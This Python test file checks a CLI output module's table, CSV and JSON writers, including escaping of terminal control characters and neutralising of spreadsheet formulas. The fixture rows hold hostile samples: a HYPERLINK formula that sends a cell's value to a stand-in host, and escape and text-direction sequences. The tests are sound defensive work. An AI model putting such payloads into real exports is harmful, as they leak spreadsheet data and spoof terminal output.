"""winback.output: rows → table, CSV, JSON, without a database."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from winback import output

COLUMNS = ("name", "amount", "note")
ROWS = [
    {"name": "[/bold] x", "amount": "-12.50", "note": "=1+1"},
    {"name": "Ёлка «тест»", "amount": "3", "note": None},
    {"name": "esc\x1b[2J\u202eevil", "amount": "0", "note": "+79161234567"},
    {"name": '=HYPERLINK("http://evil.example/?"&A1,"x")', "amount": "7", "note": "line\nbreak"},
]


def table(rows: list[list[Any]], **options: Any) -> tuple[str, int]:
    out = io.StringIO()
    n = output.write_table(out, "[red]title[/red]", [(c, "left") for c in COLUMNS], rows, **options)
    return out.getvalue(), n


# ----------------------------------------------------------------------- table


def test_table_prints_data_as_it_is() -> None:
    text, n = table([[r[c] for c in COLUMNS] for r in ROWS], wide=True)
    assert n == len(ROWS)
    assert "[red]title[/red]" in text  # the title is data too, not markup
    assert "[/bold] x" in text and "=1+1" in text and "Ёлка «тест»" in text
    assert "esc\\x1b[2J\\u202eevil" in text  # controls shown escaped
    assert "\x1b" not in text and "\u202e" not in text
    assert "None" not in text  # a missing value is an empty cell


def test_wide_table_is_not_wrapped_when_piped() -> None:
    long = ["x" * 150, "1", "y"]
    wide, _ = table([long], wide=True)
    narrow, _ = table([long])
    assert "x" * 150 in wide
    assert "x" * 150 not in narrow  # the terminal's width (80 when piped): wrapped
    assert max(map(len, wide.splitlines())) <= output.WIDE


def test_table_without_rows_and_without_header() -> None:
    text, n = table([], show_header=False)
    assert n == 0 and "title" in text and "name" not in text
    text, n = table([])
    assert n == 0 and "name" in text and "amount" in text


def test_plain_escapes_controls_only() -> None:
    assert output.plain("a\tb\x9b\u200fc").plain == "a\\tb\\x9b\\u200fc"
    assert output.plain(None).plain == ""
    assert output.plain(3).plain == "3"


# ------------------------------------------------------------------------- CSV


def test_csv_writes_formulas_as_text_and_numeric_columns_as_they_are() -> None:
    out = io.StringIO()
    n = output.write_csv(out, COLUMNS, ROWS, numeric={"amount"})
    assert n == len(ROWS)
    got = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["amount"] for r in got] == ["-12.50", "3", "0", "7"]  # numbers stay numbers
    assert got[0]["note"] == "'=1+1"
    assert got[2]["note"] == "'+79161234567"
    assert got[3]["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert got[3]["note"] == "line\nbreak"  # quoted, not split
    assert got[1] == {"name": "Ёлка «тест»", "amount": "3", "note": ""}
    assert out.getvalue().startswith("name,amount,note\n")


def test_csv_without_rows_is_the_header() -> None:
    out = io.StringIO()
    assert output.write_csv(out, COLUMNS, iter([])) == 0
    assert out.getvalue() == "name,amount,note\n"


def test_csv_refuses_a_key_not_in_the_columns() -> None:
    with pytest.raises(ValueError):
        output.write_csv(io.StringIO(), ("name",), [{"name": "a", "other": 1}])


@pytest.mark.parametrize("value", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_prefixes_each_formula_start(value: str) -> None:
    assert output.safe_cell(value + "x") == "'" + value + "x"
    assert output.safe_cell("x" + value) == "x" + value
    assert output.safe_cell(-1) == -1 and output.safe_cell(None) is None


# ------------------------------------------------------------------------ JSON


@pytest.mark.parametrize("n", [0, 1, 2, output.JSON_BATCH, output.JSON_BATCH + 1])
def test_json_is_one_array_however_many_rows(n: int) -> None:
    items = [{"i": i, "name": ROWS[i % len(ROWS)]["name"]} for i in range(n)]
    one_line, indented = io.StringIO(), io.StringIO()
    assert output.write_json(one_line, iter(items)) == n
    assert output.write_json(indented, iter(items), dump=output.indented) == n
    assert json.loads(one_line.getvalue()) == items == json.loads(indented.getvalue())
    # byte for byte what json.dumps of the whole list prints, though streamed
    assert indented.getvalue() == json.dumps(items, ensure_ascii=False, indent=1) + "\n"
    body = ",\n".join(map(output.one_line, items))
    assert one_line.getvalue() == (f"[\n{body}\n]\n" if n else "[]\n")  # one item a line


def test_json_keeps_text_as_text() -> None:
    out = io.StringIO()
    output.write_json(out, ROWS)
    text = out.getvalue()
    assert "Ёлка «тест»" in text  # not \\u-escaped
    assert "\x1b" not in text and "\\u001b" in text  # controls escaped by JSON
    assert json.loads(text) == ROWS


def test_json_uses_the_given_serialiser() -> None:
    out = io.StringIO()
    assert output.write_json(out, [1, 2], dump=lambda i: f'{{"n": {i}}}') == 2
    assert out.getvalue() == '[\n{"n": 1},\n{"n": 2}\n]\n'


def test_json_streams_in_batches() -> None:
    """Memory does not grow with the rows: nothing is held beyond a batch."""

    class Counting(io.StringIO):
        writes = 0

        def write(self, s: str) -> int:
            Counting.writes += 1
            return super().write(s)

    seen = 0

    def items() -> Any:
        nonlocal seen
        for i in range(3 * output.JSON_BATCH):
            seen += 1
            if i == output.JSON_BATCH + 1:  # the first batch is out before the rest is read
                assert Counting.writes == 2
            yield i

    out = Counting()
    assert output.write_json(out, items()) == seen == 3 * output.JSON_BATCH
    assert Counting.writes == 1 + 3 + 1
